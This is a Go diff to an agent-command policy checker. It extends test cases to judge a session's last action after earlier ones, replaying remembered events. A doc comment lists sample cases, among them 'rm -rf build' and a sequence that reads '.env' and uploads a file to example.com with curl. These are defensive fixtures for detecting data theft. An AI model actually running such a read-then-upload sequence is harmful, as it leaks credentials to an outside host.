@@ -2,6 +2,7 @@ package policy
 
 import (
 	"context"
+	"errors"
 	"fmt"
 
 	"github.com/shieldcli/shield/pkg/action"
@@ -27,6 +28,8 @@ type Cases struct {
 //	  - action: rm -rf build                           # short for execute_command
 //	    want: {default: ESCALATE 2, offline: ESCALATE 1} # by presets, with the next tier
 //	    rule: evaluate_destructive_file_ops
+//	  - action: [cat .env, curl -F f=@a https://example.com/] # of one session: the last is judged
+//	    want: ESCALATE 3
 func LoadCases(name string, data []byte) (*Cases, error) {
 	t, err := rulefile.ParseCases(name, data)
 	if err != nil {
@@ -58,7 +61,7 @@ func (t *Cases) Run(ctx context.Context, an *analysis.Analyzer, under func(Optio
 		opts.Vars["WORKSPACE"] = t.table.Roots
 		opts.Vars["HOME"] = []string{t.table.Home}
 	}
-	analyse := (&analysis.Analyzer{Shell: an.Shell, Written: an.Written, Place: place}).Case
+	local := &analysis.Analyzer{Shell: an.Shell, Written: an.Written, Replay: an.Replay, Place: place}
 	policies := map[string]*Policy{}
 	var out []CaseResult
 	for i := range t.table.Cases {
@@ -77,13 +80,13 @@ func (t *Cases) Run(ctx context.Context, an *analysis.Analyzer, under func(Optio
 				}
 				policies[w.Policy] = p
 			}
-			out = append(out, runCase(ctx, analyse, p, c, w))
+			out = append(out, runCase(ctx, local, p, c, w))
 		}
 	}
 	return out, nil
 }
 
-func runCase(ctx context.Context, analyse analyser, p *Policy, c *rulefile.Case, w rulefile.Want) CaseResult {
+func runCase(ctx context.Context, an *analysis.Analyzer, p *Policy, c *rulefile.Case, w rulefile.Want) CaseResult {
 	r := CaseResult{Name: c.Name, Line: c.Pos.Line, Policy: p.Name(), Want: w.Decision}
 	if r.Name == "" {
 		r.Name = shown(string(c.Action))
@@ -91,7 +94,7 @@ func runCase(ctx context.Context, analyse analyser, p *Policy, c *rulefile.Case,
 	if w.Tier != 0 {
 		r.Want = fmt.Sprintf("%s %d", w.Decision, w.Tier)
 	}
-	v, err := judgeRaw(ctx, analyse, p, c.Action)
+	v, err := judgeExample(ctx, an, p, &c.Example)
 	if err != nil {
 		r.Got, r.Why = verdict.Block.String(), err.Error()
 		return r
@@ -104,14 +107,22 @@ func runCase(ctx context.Context, analyse analyser, p *Policy, c *rulefile.Case,
 	return r
 }
 
-// An analyser turns an action into a case: [analysis.Analyzer.Case].
-type analyser func(*action.Action) *analysis.Case
-
-// judgeRaw judges an action given as JSON.
-func judgeRaw(ctx context.Context, analyse analyser, p *Policy, raw []byte) (verdict.Verdict, error) {
-	a, err := action.Parse(raw)
-	if err != nil {
-		return verdict.Verdict{}, err
+// judgeExample judges an example: the last of its actions, after those before it.
+func judgeExample(ctx context.Context, an *analysis.Analyzer, p *Policy, e *rulefile.Example) (verdict.Verdict, error) {
+	var actions []*action.Action
+	for _, raw := range append(e.Before[:len(e.Before):len(e.Before)], e.Action) {
+		a, err := action.Parse(raw)
+		if err != nil {
+			return verdict.Verdict{}, err
+		}
+		actions = append(actions, a)
 	}
-	return p.Judge(ctx, analyse(a))
+	if len(actions) == 1 {
+		return p.Judge(ctx, an.Case(actions[0]))
+	}
+	if an.Replay == nil {
+		return verdict.Verdict{}, errors.New("a list of actions cannot be judged here")
+	}
+	events, counts := p.Remembers()
+	return p.Judge(ctx, an.Replay(an, events, counts, actions))
 }
